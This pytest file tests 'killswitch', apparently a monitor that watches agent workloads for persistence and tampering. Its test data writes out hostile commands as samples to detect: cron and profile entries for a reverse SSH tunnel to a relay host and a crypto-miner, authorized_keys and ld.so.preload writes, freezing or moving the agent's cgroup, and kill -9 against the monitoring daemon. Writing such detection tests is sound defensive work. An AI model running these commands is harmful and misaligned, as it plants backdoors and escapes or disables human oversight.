"""What a workload leaves behind to be started again, below a host root that the test made. Run with the shipped policies."""

from __future__ import annotations

import contextlib
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from killswitch.commands import FREE, Containment, Finding
from killswitch.events import File
from tests.rig.daemon import Daemon

CUT_OFF = Containment(severed=True, frozen=True)


def a_host(tmp_path: Path) -> Path:
    """A host's file system, as far as it matters: some places are there, some are not yet."""
    for directory in (
        "etc/cron.d",
        "etc/systemd/system",
        "etc/profile.d",
        "etc/sudoers.d",
        "root",
        "home/ann",
        "var/spool",
    ):
        (tmp_path / directory).mkdir(parents=True)
    (tmp_path / "etc/passwd").write_text("root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n")
    return tmp_path


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return a_host(tmp_path)


@pytest.fixture(scope="module")
def shared_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return a_host(tmp_path_factory.mktemp("host"))


@pytest.fixture(scope="module")
def shared(shared_root: Path) -> Iterator[Daemon]:
    """For what is only told of."""
    with Daemon(KILLSWITCH_HOST_ROOT=str(shared_root)) as daemon:
        look(daemon)
        yield daemon


@pytest.fixture
def watched(make_daemon: Callable[..., Daemon], root: Path) -> Daemon:
    daemon = make_daemon(KILLSWITCH_HOST_ROOT=str(root)).start()
    look(daemon)
    return daemon


def look(daemon: Daemon) -> None:
    daemon.cgroup("agent")
    daemon.watched("agent")
    daemon.wait_for("places are looked at", lambda: "places of persistence are looked at" in daemon.log())


def shell(daemon: Daemon, script: str, *, cgroup: str = "agent") -> subprocess.Popen[bytes]:
    process = daemon.spawn(cgroup, "/bin/sh", "-c", script)
    return process


def findings(daemon: Daemon) -> list[Finding]:
    return [f for i in daemon.client.incidents() for f in daemon.client.incident(i.id).findings]


def told(daemon: Daemon, rule: str, path: str) -> Finding | None:
    return next((f for f in findings(daemon) if f.rule == rule and path in f.summary), None)


@pytest.mark.parametrize(
    ("script", "rule", "path"),
    [
        ("echo '@daily root true' > {root}/etc/cron.d/job", "persistence-file", "/etc/cron.d/job"),
        ("echo x > {root}/tmpfile; mv {root}/tmpfile {root}/etc/cron.d/moved", "persistence-file", "/etc/cron.d/moved"),
        (
            "ln -s /usr/lib/x.service {root}/etc/systemd/system/x.service",
            "persistence-file",
            "/etc/systemd/system/x.service",
        ),
        (
            "mkdir -p {root}/etc/systemd/system/a.service.d && echo x > {root}/etc/systemd/system/a.service.d/o.conf",
            "persistence-file",
            "/etc/systemd/system/a.service.d/o.conf",
        ),
        (
            "mkdir -p {root}/var/spool/cron/crontabs; echo '@daily true' > {root}/var/spool/cron/crontabs/root",
            "persistence-file",
            "/var/spool/cron/crontabs/root",
        ),
        (
            "mkdir {root}/home/ann/.ssh && echo 'ssh-ed25519 AAAA x' >> {root}/home/ann/.ssh/authorized_keys",
            "access-file",
            "/home/ann/.ssh/authorized_keys",
        ),
        (
            "mkdir -p {root}/home/new/.config/systemd/user; echo x > {root}/home/new/.config/systemd/user/x.service",
            "persistence-file",
            "/home/new/.config/systemd/user/x.service",
        ),
        ("echo /tmp/x.so > {root}/etc/ld.so.preload", "access-file", "/etc/ld.so.preload"),
        ("echo 'alias l=ls' >> {root}/root/.bashrc", "login-script", "/root/.bashrc"),
        # The writer is a child that never executes anything and has ended before anybody can ask who it was.
        ("(echo x > {root}/etc/cron.d/quick) & wait", "persistence-file", "/etc/cron.d/quick"),
    ],
)
def test_what_is_left_behind_is_found_and_nothing_is_stopped(
    shared: Daemon, shared_root: Path, script: str, rule: str, path: str
) -> None:
    name = f"agent-{len(list(shared.client.workloads()))}"  # of its own: like findings of one workload are folded
    shared.cgroup(name)
    shared.watched(name)
    assert shell(shared, script.format(root=shared_root), cgroup=name).wait(20) == 0
    finding = shared.wait_for(f"{rule} for {path}", lambda: told(shared, rule, path))
    assert finding.pid and (finding.act, finding.evidence) == ("persistence", "behaviour")
    workload = shared.workload(name)
    assert workload and workload.desired == FREE


def test_what_others_do_there_is_nobodys_finding(shared: Daemon, shared_root: Path) -> None:
    (shared_root / "etc/cron.d/ours").write_text("x")
    subprocess.run(["/bin/sh", "-c", f"echo x > {shared_root}/etc/cron.d/theirs"], check=True)
    assert shell(shared, f"echo x > {shared_root}/etc/other; echo y > {shared_root}/etc/cron.d/agents").wait(20) == 0
    shared.wait_for("the workload's own", lambda: told(shared, "persistence-file", "/etc/cron.d/agents"))
    paths = " ".join(f.summary for f in findings(shared))
    assert "ours" not in paths and "theirs" not in paths and "/etc/other" not in paths


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("etc/cron.d/sync", "*/5 * * * * root ssh -fNR 9000:localhost:22 relay@203.0.113.9"),
        ("root/.profile", "/tmp/.x -o stratum+tcp://pool.example:3333 -u w &"),
    ],
)
def test_a_payload_that_would_start_by_itself_cuts_off(watched: Daemon, root: Path, path: str, content: str) -> None:
    process = shell(watched, f"echo '{content}' > {root}/{path}; sleep 100")
    watched.wait_for("cut off", lambda: (w := watched.workload("agent")) and w.observed == CUT_OFF)
    finding = next(f for f in findings(watched) if f.rule == "persistent-payload")
    assert finding.pid == process.pid
    assert isinstance(finding.event, File) and finding.event.content == b"", "what it holds is judged, not kept"
    assert content not in finding.summary


def test_a_root_and_a_home_of_its_own(shared: Daemon, tmp_path_factory: pytest.TempPathFactory) -> None:
    """As in a container: another mount namespace, another root, and HOME where no passwd names it."""
    inner = tmp_path_factory.mktemp("root")
    for directory in ("etc/cron.d", "srv/agent", "bin", "lib", "lib64", "usr"):
        (inner / directory).mkdir(parents=True)
    script = (
        f"for d in bin lib lib64 usr; do mount --rbind /$d {inner}/$d; done; echo z > {inner}/etc/cron.d/built; "
        f"sleep 0.1; exec chroot {inner} /usr/bin/env HOME=/srv/agent /bin/sh -c "
        "'echo x > /etc/cron.d/at-once; sleep 3; echo x > /etc/cron.d/inner; echo y > /srv/agent/.bashrc'"
    )
    process = shared.spawn("agent", "unshare", "-m", "/bin/sh", "-c", script)
    assert process.wait(30) == 0
    shared.wait_for("its cron", lambda: told(shared, "persistence-file", "/etc/cron.d/inner"))
    shared.wait_for("its home", lambda: told(shared, "login-script", "/srv/agent/.bashrc"))
    assert told(shared, "persistence-file", "/etc/cron.d/at-once")
    assert not told(shared, "persistence-file", "/etc/cron.d/built")  # before it was anybody's root


def test_reaching_for_what_contains_it(shared: Daemon) -> None:
    cgroup = shared.cgroup_dir / "agent"
    assert shell(shared, f"echo 0 > {cgroup}/cgroup.freeze; echo $$ > {cgroup}/cgroup.procs").wait(20) == 0
    shared.wait_for("its cgroup", lambda: told(shared, "containment-file", "cgroup.freeze"))
    assert shell(shared, f"touch {shared.state_dir}/x && rm {shared.state_dir}/x").wait(20) == 0
    shared.wait_for("the daemon's state", lambda: told(shared, "containment-file", f"{shared.state_dir}/x"))
    assert not told(shared, "containment-file", "cgroup.procs"), "a delegated cgroup is its owner's to fill"


def test_no_rule_on_files_and_nothing_is_looked_at(make_daemon: Callable[..., Daemon], root: Path) -> None:
    policy = """
apiVersion: killswitch/v1
kind: Policy
metadata: {name: test, version: 1}
workloads:
  - cgroup: /killswitch/**
mode: enforce
rules:
  - {id: x, title: X, level: low, on: %s, match: {x: {process.name: nobody}}, condition: x, response: [alert]}
"""
    daemon = make_daemon(KILLSWITCH_HOST_ROOT=str(root)).start()
    daemon.wait_for("places are looked at", lambda: "places of persistence are looked at" in daemon.log())
    assert daemon.process

    def groups() -> int:
        assert daemon.process
        count = 0
        for link in Path(f"/proc/{daemon.process.pid}/fd").iterdir():
            with contextlib.suppress(FileNotFoundError):  # closed in between: a daemon is never idle
                count += str(link.readlink()) == "anon_inode:[fanotify]"
        return count

    assert groups() == 1
    daemon.write_policies({"test.yaml": policy % "exec"})
    daemon.client.reload_policies("test")
    assert groups() == 0
    daemon.write_policies({"test.yaml": policy % "file"})
    daemon.client.reload_policies("test")
    assert groups() == 1


def test_what_signals_the_daemon_is_cut_off_even_when_that_ends_the_daemon(daemon: Daemon) -> None:
    assert daemon.process
    daemon.cgroup("agent")
    daemon.watched("agent")
    refused = any(c.available for c in daemon.client.capabilities() if c.name == "lsm_processes")
    shell(daemon, f"kill -9 {daemon.process.pid}; sleep 100")
    if not refused:
        daemon.process.wait(20)
        daemon.end()
        daemon.start()
    daemon.wait_for("cut off", lambda: (w := daemon.workload("agent")) and w.observed == CUT_OFF)
    finding = next(f for f in findings(daemon) if f.rule == ("denied-daemon" if refused else "signal-to-daemon"))
    assert "SIGKILL" in finding.summary and finding.act == "tampering"
    assert daemon.process.poll() is None
